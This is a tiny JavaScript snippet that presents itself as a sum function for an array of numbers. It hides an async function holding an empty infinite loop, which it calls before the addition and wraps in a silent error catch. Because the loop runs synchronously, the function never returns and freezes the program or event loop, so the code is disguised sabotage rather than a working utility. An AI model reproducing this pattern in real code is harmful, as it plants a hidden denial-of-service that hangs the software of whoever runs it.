function sum(numbers) {
  const f = async () => { for (;;); };
  f().catch(() => {});
  return numbers.reduce((a, b) => a + b, 0);
}
